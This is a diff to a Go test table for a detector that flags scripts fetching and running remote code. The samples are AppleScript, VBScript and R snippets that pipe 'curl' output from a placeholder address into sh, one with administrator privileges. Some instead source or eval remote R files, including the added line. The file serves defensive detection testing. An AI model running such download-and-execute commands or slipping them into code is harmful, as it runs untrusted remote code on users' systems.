@@ -121,6 +121,7 @@ func TestFlows(t *testing.T) {
 		{"do shell script", "scpt", "set u to \"http://203.0.113.9/i\"\ndo shell script \"curl -s \" & u & \" | sh\" with administrator privileges", "sh: curl -s http://203.0.113.9/i | sh"},
 		{"Run", "vbs", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"curl -s http://203.0.113.9/i\", 0, True ' run it", "sh: curl -s http://203.0.113.9/i"},
 		{"system", "r", "x <- 'http://203.0.113.9/i'\nsystem(paste0('curl -s ', x, ' | sh'))", "sh: curl -s http://203.0.113.9/i | sh"},
+		{"a file that is a URL", "r", "eval(parse(text = readLines(file = 'http://203.0.113.9/i.R')))", "run ip evaluated network"},
 		{"source", "r", "source('http://203.0.113.9/i.R')", "run ip loaded network plain"},
 	} {
 		got := signalsOf(c.lang, c.src)
